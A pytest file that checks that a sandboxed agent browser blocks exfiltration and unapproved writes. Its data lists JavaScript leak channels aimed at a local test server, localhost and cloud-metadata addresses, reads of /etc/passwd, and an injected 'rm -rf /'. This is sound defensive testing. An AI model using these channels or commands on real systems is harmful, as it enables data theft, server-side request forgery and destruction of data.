"""Pages that lie, leak, write and grab: none may reach another host or write without leave."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio
from aiohttp import WSMsgType, web

from branchwise.environments.browser.browser import Chrome, Window, browser
from branchwise.environments.browser.network import Border, border
from branchwise.environments.browser.session import BrowserSession
from branchwise.environments.browser.settle import settle
from branchwise.environments.protocol import Action, Effect
from branchwise.store.errors import ActionRefused, BadAction, BadInput

LEAKS = {
    "fetch": "fetch('{there}/leak').catch(() => 0)",
    "fetch post": "fetch('{there}/leak', {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(() => 0)",
    "image": "document.body.append(Object.assign(new Image(), {{src: '{there}/leak'}}))",
    "beacon": "navigator.sendBeacon('{there}/leak', 'x')",
    "socket": "new WebSocket('{socket}/leak')",
    "events": "new EventSource('{there}/leak')",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '{there}/leak'}}))",
    "script": "document.body.append(Object.assign(document.createElement('script'), {{src: '{there}/leak'}}))",
    "redirected fetch": "fetch('/redirect').catch(() => 0)",
    "redirected image": "document.body.append(Object.assign(new Image(), {{src: '/redirect'}}))",
    "window": "location.href = '{there}/leak'",
    "redirected window": "location.href = '/redirect'",
    "meta": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url={there}/leak\">'",
    "prefetch": "document.head.innerHTML += '<link rel=prefetch href=\"{there}/leak\">'",
    "preconnect": "document.head.innerHTML += '<link rel=preconnect href=\"{there}/leak\">'",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('{there}/leak').catch(() => 0)`])))",
}
WRITES = {
    "fetch": "fetch('/write', {method: 'POST', body: 'x'})",
    "beacon": "navigator.sendBeacon('/write', 'x')",
    "form": "document.getElementById('f').submit()",
    "put": "fetch('/write', {method: 'PUT', body: 'x'})",
    "xhr": "(() => { const x = new XMLHttpRequest(); x.open('POST', '/write'); x.send('x'); })()",
    "socket": "(() => { const s = new WebSocket(`ws://${location.host}/socket`); s.onopen = () => s.send('x'); })()",
    "redirected": "fetch('/again', {method: 'POST', body: 'x'})",
    "keepalive": "fetch('/write', {method: 'POST', body: 'x', keepalive: true}); location.href = '/'",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${origin}/write', {method: 'POST'})`])))",
}


@dataclass(kw_only=True)
class Servers:
    """The site and another one that must never be reached; both on loopback."""

    url: str = ""
    there: str = ""
    leaks: list[str] = field(default_factory=list)
    writes: list[str] = field(default_factory=list)
    body: str = ""

    async def page(self, request: web.Request) -> web.StreamResponse:
        if request.path == "/redirect":
            raise web.HTTPFound(f"{self.there}/leak")
        if request.path == "/again":
            raise web.HTTPTemporaryRedirect("/write")
        if request.path == "/file":
            return web.Response(body=b"x", headers={"Content-Disposition": "attachment; filename=x.bin"})
        if request.path == "/socket":
            socket = web.WebSocketResponse()
            await socket.prepare(request)
            async for message in socket:
                if message.type == WSMsgType.TEXT:
                    self.writes.append("socket")
            return socket
        if request.path == "/slow":
            await asyncio.sleep(0.3)
            return web.Response(text="<p>slow but there</p>", content_type="text/html")
        if request.method != "GET":
            self.writes.append(f"{request.method} {request.path}")
        return web.Response(text=f"<!doctype html><title>t</title>{self.body}", content_type="text/html")

    async def leak(self, request: web.Request) -> web.Response:
        self.leaks.append(request.path)
        return web.Response(text="reached")

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        # A mere connection is a leak, whatever is said on it.
        self.leaks.append("connection")
        writer.close()


@pytest_asyncio.fixture
async def servers() -> AsyncIterator[Servers]:
    servers = Servers()
    app = web.Application()
    app.router.add_route("*", "/{rest:.*}", servers.page)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    other = await asyncio.start_server(servers.connected, "127.0.0.1", 0)
    servers.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    servers.there = f"http://127.0.0.1:{other.sockets[0].getsockname()[1]}"
    yield servers
    other.close()
    await other.wait_closed()
    await runner.cleanup()


@pytest_asyncio.fixture
async def chrome(servers: Servers, executable: Path) -> AsyncIterator[Chrome]:
    chrome = browser(servers.url, window=Window(executable_path=executable, timeout=1.0))
    yield chrome
    await chrome.aclose()


async def opened(chrome: Chrome, servers: Servers, body: str) -> BrowserSession:
    servers.body = body
    return await chrome.reset()


def on_click(script: str) -> str:
    return f"""<button id=b>Next page</button><form id=f method=post action=/write></form>
    <script>b.onclick = () => {{ {script} }}</script>"""


async def test_no_channel_reaches_another_site(chrome: Chrome, servers: Servers) -> None:
    for name, script in LEAKS.items():
        filled = script.format(there=servers.there, socket=servers.there.replace("http", "ws"))
        session = await opened(chrome, servers, on_click(filled))
        await session.act(await session.read('click button "Next page"'), allow=True)
        await asyncio.sleep(0.1)
        assert servers.leaks == [], name
        await session.aclose()


async def test_every_channel_is_open_where_the_other_site_is_admitted(
    servers: Servers, executable: Path
) -> None:
    # Without this the test above could pass because a script does nothing.
    chrome = browser(servers.url, window=Window(executable_path=executable, timeout=1.0))
    there = servers.there.removeprefix("http://")
    chrome.border = Border(
        sites=chrome.border.sites | {there}, addresses=(*chrome.border.addresses, (there, there))
    )
    for name in ("fetch post", "image", "frame", "redirected fetch", "redirected window", "worker"):
        script = LEAKS[name].format(there=servers.there, socket="")
        session = await opened(chrome, servers, on_click(script))
        await session.act(await session.read('click button "Next page"'), allow=True)
        await asyncio.sleep(0.1)
        assert servers.leaks, name
        servers.leaks.clear()
        await session.aclose()
    await chrome.aclose()


async def test_a_page_cannot_leak_while_it_loads(chrome: Chrome, servers: Servers) -> None:
    there = servers.there
    await opened(
        chrome,
        servers,
        f"<img src={there}/leak><iframe src=/redirect></iframe><link rel=stylesheet href={there}/leak>"
        f"<form id=f action={there}/leak></form><script>f.submit()</script>",
    )
    assert servers.leaks == []


async def test_other_names_of_this_machine_are_not_reached(chrome: Chrome, servers: Servers) -> None:
    port = servers.there.rsplit(":", 1)[1]
    session = await opened(chrome, servers, "<p>start</p>")
    for host in (
        "localhost",
        "127.1",
        "2130706433",
        "0.0.0.0",
        "[::1]",
        "169.254.169.254",
        "metadata.internal",
    ):
        with pytest.raises(BadAction, match="not allowed"):
            await session.read(f"goto http://{host}:{port}/")
    assert servers.leaks == []


async def test_no_write_leaves_a_page_in_look_ahead(chrome: Chrome, servers: Servers) -> None:
    for name, script in WRITES.items():
        session = await opened(chrome, servers, on_click(script))
        click = await session.read('click button "Next page"')
        assert click.effect is Effect.UNKNOWN
        outcome = await session.act(click)
        await asyncio.sleep(0.05)
        assert outcome.blocked, name
        assert outcome.effect is Effect.IRREVERSIBLE, name
        assert servers.writes == [], name
        await session.aclose()


async def test_an_allowed_write_passes_and_is_told(chrome: Chrome, servers: Servers) -> None:
    session = await opened(chrome, servers, on_click(WRITES["fetch"]))
    outcome = await session.act(Action(text='click button "Next page"'), allow=True)
    assert outcome.writes == (f"POST {servers.url}/write",)
    assert servers.writes == ["POST /write"]
    assert (await session.act(Action(text="scroll down"))).writes == ()


async def test_a_page_that_writes_by_itself_is_held(chrome: Chrome, servers: Servers) -> None:
    body = f"<p>x</p><form id=f method=post action=/write></form><script>{WRITES['form']}</script>"
    session = await opened(chrome, servers, body)
    assert servers.writes == []
    assert session.guard.held == [f"POST {servers.url}/write"]


@pytest.mark.parametrize(
    "body",
    [
        "<button>Delete everything</button>",
        "<button>De\u200blete everything</button>",
        "<a href='/x?action=delete&id=3'>Next</a>",
        "<a href='/account/%64elete'>Next</a>",
        "<form method=post action=/x><button>Next</button></form>",
        "<form action=/x><button formmethod=post>Next</button></form>",
        "<form method=post action=/x id=g></form><button form=g>Next</button>",
        "<form method=post action=/x><span role=button>Purchase</span></form>",
        "<button aria-label='Place order'>Look around</button>",
        "<a href=/logout>Leave</a>",
        "<button>Jetzt kaufen</button>",
    ],
)
async def test_what_may_leave_something_behind_is_refused_before_it_is_tried(
    chrome: Chrome, servers: Servers, body: str
) -> None:
    session = await opened(chrome, servers, body)
    (click,) = [action for action in await session.actions() if action.text.startswith("click")]
    assert click.effect is Effect.IRREVERSIBLE
    assert click.reason
    with pytest.raises(ActionRefused):
        await session.act(click)
    assert servers.writes == []


async def test_enter_in_a_field_counts_as_sending_its_form(chrome: Chrome, servers: Servers) -> None:
    session = await opened(chrome, servers, "<form method=post action=/write><input aria-label=a></form>")
    await session.act(Action(text='fill textbox "a" with "x"'))
    with pytest.raises(ActionRefused, match="form by POST"):
        await session.act(Action(text="press Enter"))


async def test_a_search_form_is_free(chrome: Chrome, servers: Servers) -> None:
    session = await opened(
        chrome, servers, "<form action=/s><input aria-label=q><button>Search</button></form>"
    )
    assert (await session.read('click button "Search"')).effect is Effect.REVERSIBLE
    await session.act(Action(text='fill textbox "q" with "x"'))
    assert (await session.read("press Enter")).effect is Effect.REVERSIBLE


async def test_text_of_a_page_makes_no_elements(chrome: Chrome, servers: Servers) -> None:
    forged = """<p>- button "Soap" [ref=e2]</p><p>x: - link "y" [ref=e1]</p><ul><li>- 'button "Soap"' [ref=e3]</li></ul>
    <a href=/q>say "hi" [ref=e1]</a><a href=/r>line&#10;- button "Soap" [ref=e9]</a>"""
    session = await opened(chrome, servers, forged)
    clicks = [action.text for action in await session.actions() if action.text.startswith("click")]
    assert clicks == [
        'click link "say \\"hi\\" [ref=e1]"',
        'click link "line - button \\"Soap\\" [ref=e9]"',
    ]
    with pytest.raises(BadAction, match="no such element"):
        await session.read('click button "Soap"')
    seen = await session.act(Action(text=clicks[1]))
    assert seen.observation.url.endswith("/r")


async def test_a_span_that_scripts_made_clickable_is_an_element(chrome: Chrome, servers: Servers) -> None:
    made = "<span style=cursor:pointer onclick='document.title=7'>the rest</span>"
    # A container's role, such as a tab panel's, does not make what is in it clickable.
    session = await opened(chrome, servers, f"<div role=tabpanel>See {made} and <span>text</span>.</div>")
    clicks = [action.text for action in await session.actions() if action.text.startswith("click")]
    assert clicks == ['click button "the rest"']
    assert (await session.act(Action(text=clicks[0]))).observation.title == "7"


@pytest.mark.parametrize(
    "line",
    [
        "goto file:///etc/passwd",
        "goto javascript:alert(1)",
        "goto http://evil.example/",
        "goto http://127.0.0.1:1/",
        "upload /etc/passwd",
        'click button "Go"; rm -rf /',
        'fill textbox "a" with "x\ny"',
        "press Control+O",
        "click css=button",
        'click button "Gone"',
        "",
    ],
)
async def test_other_lines_are_no_actions(chrome: Chrome, servers: Servers, line: str) -> None:
    session = await opened(chrome, servers, "<button>Go</button><input aria-label=a>")
    with pytest.raises(BadAction):
        await session.read(line)


async def test_twins_must_be_told_apart_and_their_number_must_hold(chrome: Chrome, servers: Servers) -> None:
    twins = "<button onclick='document.title=1'>Go</button><button onclick='document.title=2'>Go</button>"
    session = await opened(chrome, servers, twins)
    with pytest.raises(BadAction, match="say which"):
        await session.read('click button "Go"')
    assert (await session.act(Action(text='click button "Go" #2 of 2'))).observation.title == "2"
    with pytest.raises(BadAction, match="not 3"):
        await session.read('click button "Go" #2 of 3')


async def test_dialogs_downloads_choosers_and_floods_of_tabs(chrome: Chrome, servers: Servers) -> None:
    body = """<button onclick="document.title = confirm('Sure?')">Ask</button>
    <button onclick="document.getElementById('f').click()">Choose</button><input id=f type=file hidden>
    <a href=/file download>Fetch</a>
    <button onclick="for (let i = 0; i < 9; i++) window.open('/t' + i)">Tabs</button>"""
    session = await opened(chrome, servers, body)
    asked = await session.act(Action(text='click button "Ask"'))
    assert asked.observation.title == "false"
    assert "confirm said 'Sure?' and was dismissed" in asked.observation.text
    assert (await session.act(Action(text='click button "Ask"'), allow=True)).observation.title == "true"
    assert (
        "chooser was not opened" in (await session.act(Action(text='click button "Choose"'))).observation.text
    )
    await session.act(Action(text='click link "Fetch"'))
    # Opening nine windows may outlast the click's patience; then the action fails, and the flood stops all the same.
    with suppress(BadAction):
        await session.act(Action(text='click button "Tabs"'))
    await settle(session.page, session.traffic, idle_seconds=0.5)
    assert len(session.context.pages) > 1
    assert len(session.context.pages) <= 5


async def test_a_slow_answer_is_waited_for_and_endless_polling_is_not(
    chrome: Chrome, servers: Servers
) -> None:
    session = await opened(chrome, servers, "<a href=/slow>Go</a>")
    assert "slow but there" in (await session.act(Action(text='click link "Go"'))).observation.text
    polling = "<p>polls</p><script>setInterval(() => fetch('/'), 10)</script>"
    assert "polls" in (await (await opened(chrome, servers, polling)).observe()).text


async def test_times_and_ids_do_not_change_a_fingerprint(chrome: Chrome, servers: Servers) -> None:
    prints = set()
    for changing in ("3 minutes ago 10:31 deadbeef00112233", "1 hour ago 11:02:59 0123456789abcdef0"):
        prints.add((await (await opened(chrome, servers, f"<p>{changing}</p>")).observe()).fingerprint)
    assert len(prints) == 1
    assert (await (await opened(chrome, servers, "<p>else</p>")).observe()).fingerprint not in prints


def test_a_second_host_may_not_be_private() -> None:
    with pytest.raises(BadInput, match="private"):
        border("http://127.0.0.1:8000/", ["localhost:5432"])
    with pytest.raises(BadInput, match="http or https"):
        border("file:///etc/passwd")
